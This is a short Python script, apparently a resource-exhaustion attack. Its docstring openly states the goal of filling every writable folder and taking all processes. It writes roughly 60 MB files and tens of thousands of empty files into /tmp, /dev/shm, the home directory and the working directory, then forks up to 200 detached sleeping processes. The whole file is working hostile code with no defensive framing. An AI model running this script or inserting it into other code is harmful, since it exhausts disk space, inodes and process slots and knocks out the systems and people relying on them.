"""Fills every folder that it may write with data and with names, and takes all processes."""
import os, time
for top in ("/tmp", "/dev/shm", os.environ.get("HOME", "/tmp"), os.getcwd()):
    try:
        for number in range(20):
            with open(f"{top}/data{number}", "wb") as file:
                for _ in range(60):
                    file.write(b"x" * 1_000_000)
    except OSError:
        pass
    try:
        for number in range(25_000):
            os.close(os.open(f"{top}/name{number}", os.O_CREAT | os.O_WRONLY))
    except OSError:
        pass
try:
    for _ in range(200):
        if os.fork() == 0:
            os.setsid()
            time.sleep(60)
            os._exit(0)
except OSError:
    pass
